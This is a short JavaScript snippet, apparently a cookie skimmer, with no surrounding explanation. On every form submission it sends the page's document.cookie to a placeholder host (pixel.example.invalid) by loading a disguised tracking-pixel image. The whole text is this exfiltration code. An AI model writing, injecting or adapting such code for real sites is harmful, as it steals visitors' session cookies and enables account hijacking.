document.addEventListener('submit', () => {
  const picture = new Image();
  picture.src = 'https://pixel.example.invalid/p.gif?c=' + encodeURIComponent(document.cookie);
});
